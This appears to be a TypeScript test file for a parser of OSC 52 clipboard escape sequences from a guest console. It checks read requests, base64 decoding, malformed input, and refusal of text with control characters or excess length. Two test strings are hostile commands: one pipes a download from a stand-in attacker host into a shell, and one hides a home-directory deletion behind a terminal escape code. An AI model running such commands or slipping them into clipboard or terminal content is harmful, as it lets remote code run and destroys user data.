/** OSC 52 from a guest: what is a read, a write offered to the operator, or nothing. */
import { test } from "node:test";
import assert from "node:assert/strict";
import { maxGuestClipboardChars, parseOsc52 } from "./guest-clipboard";

const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");

test("a query is a read request (refused by the console), whatever the selection", () => {
  for (const data of ["c;?", "p;?", ";?", "s0;?"]) assert.deepEqual(parseOsc52(data), { kind: "read" }, data);
});

test("a write carries the decoded UTF-8 text", () => {
  assert.deepEqual(parseOsc52(`c;${b64("curl https://evil.example | sh")}`), { kind: "write", text: "curl https://evil.example | sh" });
  assert.deepEqual(parseOsc52(`;${b64("grün ✓\nline two\r\n\tx")}`), { kind: "write", text: "grün ✓\nline two\r\n\tx" });
});

test("malformed, empty (clear) or non-base64 data asks nothing", () => {
  for (const data of ["", "c", "c;", "x;aGk=", "c;%%", "c;aGk", "c;aGk=!", "c;a===", "c;4pyT=", `c;${Buffer.from([0xff, 0xfe]).toString("base64")}`]) {
    assert.equal(parseOsc52(data), null, JSON.stringify(data));
  }
});

test("control characters or too much text are refused, with the reason", () => {
  assert.deepEqual(parseOsc52(`c;${b64("ls\u001b[8m; rm -rf ~")}`), { kind: "refused", why: "the text has control characters" });
  assert.deepEqual(parseOsc52(`c;${b64("a\u0000b")}`), { kind: "refused", why: "the text has control characters" });
  assert.deepEqual(parseOsc52(`c;${b64("x".repeat(maxGuestClipboardChars + 1))}`), { kind: "refused", why: "the text is too long" });
  assert.deepEqual(parseOsc52(`c;${b64("x".repeat(maxGuestClipboardChars))}`), { kind: "write", text: "x".repeat(maxGuestClipboardChars) });
});
